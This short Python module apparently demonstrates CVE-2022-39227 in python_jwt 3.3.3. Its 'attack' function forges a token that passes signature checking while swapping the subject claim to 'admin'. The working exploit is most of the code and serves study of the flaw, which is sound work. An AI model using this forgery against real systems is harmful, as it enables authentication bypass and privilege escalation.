"""Two readers of one token disagree: claims are forged.

python_jwt 3.3.3 checks the signature with one parser and reads the claims
with another.  The forged text is JSON for the first, holding the honest
token in parts, and three dotted parts for the second, the middle one
written by the attacker, who needs any valid token.  CVE-2022-39227.
"""

import json

import python_jwt
from by_hand import KEYS, TOKENS, edit, part, unb64
from jwcrypto.common import JWException
from jwcrypto.jwk import JWK

REFUSALS = (python_jwt._JWTError, JWException)
PUBLIC = JWK.from_pem(KEYS["rsa_public"].encode())


def enters(token: str) -> str:
    _, claims = python_jwt.verify_jwt(
        token, PUBLIC, ["RS256"], checks_optional=True
    )
    return claims["sub"]


def honest() -> bool:
    return enters(TOKENS["RS256"]) == "alice"


def edited() -> bool:
    return enters(edit(TOKENS["RS256"])) == "admin"


def attack() -> bool:
    head, payload, signature = TOKENS["RS256"].split(".")
    claims = {**json.loads(unb64(payload)), "sub": "admin"}
    parts = {"protected": head, "payload": payload, "signature": signature}
    forged = {f"  {head}.{part(claims)}.": "", **parts}
    return enters(json.dumps(forged)) == "admin"
